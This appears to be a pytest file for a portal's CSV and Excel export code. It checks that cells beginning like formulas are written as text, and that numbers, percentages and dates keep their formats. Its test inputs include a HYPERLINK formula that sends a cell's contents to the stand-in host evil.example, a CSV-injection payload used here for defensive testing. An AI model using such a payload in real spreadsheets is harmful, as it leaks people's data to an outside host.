"""Exports never carry a live formula: text that a spreadsheet would evaluate is written as text,
in CSV and in every workbook (the one writer of the portal)."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from jilin_grid.exports import iso_date, percent, write_csv, write_workbook, write_xlsx

LINK = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'
DANGEROUS = [LINK, "+86 199 0000 0001", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def test_csv_cells_that_begin_like_a_formula_are_written_as_text():
    content = write_csv(["姓名", "备注"], [[value, "普通文字"] for value in DANGEROUS] + [[-5, 3.5]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:-1]] == [f"'{value}" for value in DANGEROUS]
    assert rows[-1] == ["-5", "3.5"]  # numbers stay numbers
    assert rows[1][1] == "普通文字"


@pytest.mark.parametrize(
    "write", [lambda rows: write_xlsx(["姓名"], rows), lambda rows: write_workbook([("表", ["姓名"], rows)])]
)
def test_workbook_cells_that_begin_like_a_formula_are_strings_not_formulas(write):
    content = write([[value] for value in DANGEROUS] + [[42]])
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [sheet.cell(row=row, column=1) for row in range(2, len(DANGEROUS) + 3)]
    # (XML reads a carriage return back as a line feed.)
    assert [cell.value for cell in cells[:-1]] == [value.replace("\r", "\n") for value in DANGEROUS]
    assert all(cell.data_type == "s" for cell in cells[:-1])
    assert cells[-1].value == 42 and cells[-1].data_type == "n"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the sheet


def test_workbook_cells_keep_numbers_rates_and_dates_with_their_formats(settings):
    settings.TIME_ZONE = "Asia/Shanghai"
    moment = datetime(2020, 6, 30, 16, 30, tzinfo=UTC)  # 00:30 on 1 July in Jilin
    row = [713, Decimal("12.5"), 2.75, percent(96.1), percent(None), iso_date(date(2020, 7, 6)), moment, "丰满区"]
    content = write_workbook([("概况", ["数量", "金额", "小时", "报送率", "无", "日期", "时间", "区域"], [row])])
    cells = next(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))

    assert [cell.data_type for cell in cells] == ["n", "n", "n", "n", "n", "d", "d", "s"]
    assert cells[0].value == 713 and cells[0].number_format == "General"
    assert cells[1].value == 12.5
    assert cells[3].value == pytest.approx(0.961) and cells[3].number_format == "0.0%"
    assert cells[4].value is None  # no rate: an empty cell, not "—" or "None"
    assert cells[5].value == datetime(2020, 7, 6) and cells[5].number_format == "yyyy-mm-dd"
    assert cells[6].value == datetime(2020, 7, 1, 0, 30) and cells[6].number_format == "yyyy-mm-dd hh:mm"


def test_csv_and_pages_show_rates_and_dates_as_text():
    content = write_csv(["报送率", "日期"], [[percent(96.1), date(2020, 7, 6)], [percent(None), None]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[1:] == [["96.1%", "2020-07-06"], ["—", ""]]
    assert str(percent(96.1)) == "96.1%"
    assert str(iso_date(date(2020, 7, 6))) == "2020-07-06"
